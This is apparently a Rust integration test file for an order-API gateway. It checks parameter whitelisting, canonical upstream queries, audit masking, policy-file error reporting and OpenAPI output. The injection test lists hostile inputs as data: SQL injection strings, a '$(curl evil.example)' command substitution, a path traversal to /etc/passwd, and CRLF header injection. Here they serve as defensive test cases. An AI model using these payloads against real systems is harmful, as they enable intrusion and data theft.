//! Issue #4: the parameter whitelist against a running gateway. Every refusal is a 400 listing
//! every violation, and the order service receives nothing; accepted requests reach it with
//! exactly the canonical query the gateway wrote.

mod support;

use serde_json::Value;
use support::Harness;

async fn refusal(h: &Harness, query: &str) -> Vec<(String, String)> {
    let path = format!("/v1/customers/C0000001/orders?{query}");
    let (status, body) = support::raw_request(
        h,
        &format!("GET {path} HTTP/1.1"),
        &[("authorization", &h.alice())],
    )
    .await;
    assert_eq!(status, 400, "{query}: {body}");
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        body["type"], "https://ordergate.dev/problems/invalid_parameter",
        "{query}"
    );
    body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["param"].as_str().unwrap().to_owned(),
                e["reason"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

const OK: &str = "start_date=2025-01-01&end_date=2025-01-31";

#[tokio::test]
async fn every_violation_is_listed_and_nothing_reaches_the_upstream() {
    let h = Harness::start().await;
    let errors = refusal(
        &h,
        "start_date=2025-02-30&page_size=500&status=lost&debug=1&cursor=a'b",
    )
    .await;
    for expected in [
        ("start_date", "is not a real calendar date"),
        ("end_date", "is required"),
        ("page_size", "must be <= 100"),
        (
            "status",
            "must be one of: pending, paid, shipped, delivered, refunded, cancelled",
        ),
        ("debug", "unknown parameter"),
        ("cursor", "does not match the required pattern"),
    ] {
        assert!(
            errors.contains(&(expected.0.into(), expected.1.into())),
            "{expected:?} not in {errors:?}"
        );
    }
    assert_eq!(errors.len(), 6);
    assert_eq!(h.upstream.count(), 0);
}

#[tokio::test]
async fn injection_encoding_and_shape_attacks_are_refused() {
    let h = Harness::start().await;
    let cases: &[(&str, &str, &str)] = &[
        ("status=paid'%20OR%20'1'%3D'1", "status", "must be one of"),
        (
            "status=paid%3BDROP%20TABLE%20orders",
            "status",
            "must be one of",
        ),
        (
            "page_size=10%20OR%201%3D1",
            "page_size",
            "must be an integer",
        ),
        ("page_size=1e2", "page_size", "must be an integer"),
        (
            "cursor=%24(curl%20evil.example)",
            "cursor",
            "does not match",
        ),
        ("cursor=..%2F..%2Fetc%2Fpasswd", "cursor", "does not match"),
        ("cursor=abc%00", "cursor", "control character"),
        (
            "cursor=abc%0D%0ASet-Cookie:%20x=1",
            "cursor",
            "control character",
        ),
        ("cursor=%C0%AF", "cursor", "not valid UTF-8"),
        ("cursor=%ZZ", "cursor", "malformed percent-encoding"),
        ("status=paid&status=shipped", "status", "repeated parameter"),
        ("customer_id=C0000002", "customer_id", "unknown parameter"),
        ("page_size", "page_size", "missing `=`"),
        ("=1", "", "empty parameter name"),
        ("start_date=2025-01-01", "", ""),
    ];
    for (extra, param, reason) in cases {
        let query = if extra.starts_with("start_date") {
            format!("{extra}&end_date=2024-01-01")
        } else {
            format!("{OK}&{extra}")
        };
        let errors = refusal(&h, &query).await;
        if reason.is_empty() {
            assert_eq!(
                errors,
                vec![(
                    "end_date".to_owned(),
                    "must not be before start_date".to_owned()
                )]
            );
            continue;
        }
        assert!(
            errors.iter().any(|(p, r)| p == param && r.contains(reason)),
            "{extra}: {errors:?}"
        );
    }
    let errors = refusal(&h, "start_date=2024-01-01&end_date=2025-06-01").await;
    assert_eq!(
        errors,
        vec![("end_date".to_owned(), "range exceeds 366 days".to_owned())]
    );
    // Thousands of pieces (all a 32 KiB head allows) cost a count of the `&`s: refused whole.
    let flood: String = (0..3000).map(|n| format!("&{n:x}=")).collect();
    let errors = refusal(&h, &format!("{OK}{flood}")).await;
    assert!(
        errors
            .iter()
            .any(|(p, r)| p.is_empty() && r == "too many parameters (at most 64)"),
        "{errors:?}"
    );
    let errors = refusal(&h, &format!("{OK}&cursor={}", "a".repeat(300))).await;
    assert_eq!(
        errors,
        vec![(
            "cursor".to_owned(),
            "must be at most 256 characters".to_owned()
        )]
    );
    assert_eq!(h.upstream.count(), 0);
}

#[tokio::test]
async fn path_parameters_follow_the_same_rules() {
    let h = Harness::start().await;
    let agent = format!("Bearer {}", h.token("agent", &["customer_service"], &[]));
    for path in [
        "/v1/customers/C12'--/orders",
        "/v1/customers/C123/orders",
        "/v1/customers/c0000001/orders",
    ] {
        let (status, body) = support::raw_request(
            &h,
            &format!("GET {path}?{OK} HTTP/1.1"),
            &[("authorization", &agent)],
        )
        .await;
        assert_eq!(status, 400, "{path}");
        assert!(body.contains("\"param\":\"customer_id\""), "{body}");
    }
    assert_eq!(h.upstream.count(), 0);
}

#[tokio::test]
async fn the_upstream_receives_exactly_the_canonical_query() {
    let h = Harness::start().await;
    let auth = h.alice();
    for (sent, expected) in [
        (
            "end_date=2025-01-31&status=paid&start_date=2025-01-01",
            "/api/orders?customer_id=C0000001&start_date=2025-01-01&end_date=2025-01-31&status=paid&page_size=20",
        ),
        (
            "start_date=2025-01-01&end_date=2025-01-31&page_size=05&cursor=a_b-C",
            "/api/orders?customer_id=C0000001&start_date=2025-01-01&end_date=2025-01-31&page_size=5&cursor=a_b-C",
        ),
        (
            "start_date=2025-01-01&end_date=2025-01-31&phone=13812345678",
            "/api/orders?customer_id=C0000001&start_date=2025-01-01&end_date=2025-01-31&page_size=20&phone=13812345678",
        ),
    ] {
        let response = h
            .get(
                &format!("/v1/customers/C%30000001/orders?{sent}"),
                &[("authorization", &auth)],
            )
            .await;
        assert_eq!(response.status(), 200, "{sent}");
        assert_eq!(h.upstream.requests().last().unwrap().target, expected);
    }
    // The audit record holds the validated values, with sensitive ones masked.
    let mut h = h;
    h.stop().await;
    let records = h.audit_records();
    assert_eq!(records[2]["query"]["phone"], "138****5678");
    assert_eq!(records[1]["query"]["page_size"], 5);
    assert!(
        !std::fs::read_to_string(h.audit_path())
            .unwrap()
            .contains("13812345678")
    );
}

#[test]
fn check_reports_each_policy_mistake_at_its_location() {
    let dir = tempfile::tempdir().unwrap();
    let keys = support::Keys::new();
    support::write_files(dir.path(), &keys);
    let base = support::base_policy(&keys, "127.0.0.1:9".parse().unwrap());
    // (text to replace, replacement, expected message, text of the line it must be reported at)
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "pattern = \"^C[0-9]{6,12}$\"",
            "pattern = \"^C[0-9\"",
            "invalid regular expression",
            "pattern = \"^C[0-9\"",
        ),
        (
            "min = 1\nmax = 100\ndefault = 20",
            "min = 100\nmax = 1\ndefault = 20",
            "`min` (100) is greater than `max` (1)",
            "min = 100",
        ),
        (
            "max = 100\ndefault = 20",
            "max = 100\ndefault = 200",
            "`default` fails its own schema: it must be <= 100",
            "default = 200",
        ),
        (
            "from = \"start_date\"",
            "from = \"begin\"",
            "`begin` is not a parameter of this route",
            "from = \"begin\"",
        ),
        (
            "[routes.params.customer_id]\ntype = \"string\"\npattern = \"^C[0-9]{6,12}$\"",
            "",
            "path parameter `customer_id` has no schema",
            "path = \"/v1/customers/{customer_id}/orders\"",
        ),
        (
            "require_scopes = [\"orders:read\"]\nowner",
            "require_scope = [\"orders:read\"]\nowner",
            "unknown field `require_scope`",
            "require_scope =",
        ),
        (
            "type = \"date\"\nrequired = true",
            "type = \"day\"\nrequired = true",
            "unknown variant `day`",
            "type = \"day\"",
        ),
        (
            "kind = \"date_range\"",
            "kind = \"weekday\"",
            "unknown constraint kind `weekday`",
            "kind = \"weekday\"",
        ),
    ];
    for (from, to, message, at) in cases {
        assert!(base.contains(from), "fixture out of date: {from}");
        let broken = base.replacen(from, to, 1);
        let path = dir.path().join("broken.toml");
        std::fs::write(&path, &broken).unwrap();
        let problems = ordergate::policy::load(&path).unwrap_err();
        let found = problems
            .iter()
            .find(|p| p.message.contains(message))
            .unwrap_or_else(|| panic!("{message}: {problems:#?}"));
        let line = broken.lines().nth(found.line - 1).unwrap();
        assert!(
            line.contains(at),
            "{message}: reported at line {} `{line}`",
            found.line
        );
        assert!(found.to_string().starts_with(&format!(
            "{}:{}:{}: ",
            path.display(),
            found.line,
            found.col
        )));
    }
    // Every problem at once.
    let mut broken = base.clone();
    for (from, to, _, _) in &cases[..3] {
        broken = broken.replacen(from, to, 1);
    }
    let path = dir.path().join("broken.toml");
    std::fs::write(&path, &broken).unwrap();
    assert!(ordergate::policy::load(&path).unwrap_err().len() >= 3);
}

#[test]
fn openapi_describes_routes_parameters_security_and_errors() {
    let dir = tempfile::tempdir().unwrap();
    let keys = support::Keys::new();
    support::write_files(dir.path(), &keys);
    let path = dir.path().join("policy.toml");
    std::fs::write(
        &path,
        support::base_policy(&keys, "127.0.0.1:9".parse().unwrap()),
    )
    .unwrap();
    support::install();
    let policy = ordergate::policy::load(&path).unwrap();
    let doc = ordergate::openapi::document(&policy);
    assert_eq!(doc["openapi"], "3.1.0");
    let op = &doc["paths"]["/v1/customers/{customer_id}/orders"]["get"];
    assert_eq!(op["operationId"], "customer-orders");
    let params = op["parameters"].as_array().unwrap();
    let names: Vec<&str> = params.iter().map(|p| p["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "customer_id",
            "start_date",
            "end_date",
            "status",
            "page_size",
            "cursor",
            "phone"
        ]
    );
    assert_eq!(params[0]["in"], "path");
    assert_eq!(params[1]["schema"]["format"], "date");
    assert_eq!(params[1]["required"], true);
    assert_eq!(params[4]["schema"]["maximum"], 100);
    assert_eq!(params[4]["schema"]["default"], 20);
    assert_eq!(params[3]["schema"]["enum"][0], "pending");
    assert_eq!(
        op["responses"]["400"]["$ref"],
        "#/components/responses/BadRequest"
    );
    let schemes = &doc["components"]["securitySchemes"];
    assert_eq!(schemes["bearerAuth"]["bearerFormat"], "JWT");
    assert_eq!(schemes["apiKeyAuth"]["name"], "x-api-key");
    assert_eq!(schemes["mutualTLS"]["type"], "mutualTLS");
    assert!(doc["paths"]["/v1/orders/{order_id}/notes"]["post"].is_object());
}
